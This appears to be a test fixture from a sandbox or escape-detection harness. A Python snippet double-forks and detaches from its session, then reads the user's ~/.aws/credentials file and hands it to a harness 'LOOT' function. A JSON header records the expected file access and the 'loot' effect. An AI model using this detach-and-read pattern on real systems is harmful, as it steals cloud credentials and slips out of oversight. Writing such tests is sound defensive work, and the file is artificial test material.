#: {"class": "escape-tag", "loader": "script", "settle": 0.5, "expect": [["open", "\\.aws/credentials$"]], "effect": {"loot": "aws"}}
import time
if not os.fork():
    os.setsid()
    if not os.fork():
        while os.getppid() == 0: pass
        LOOT(open(HOME + "/.aws/credentials").read()); os._exit(0)
    os._exit(0)
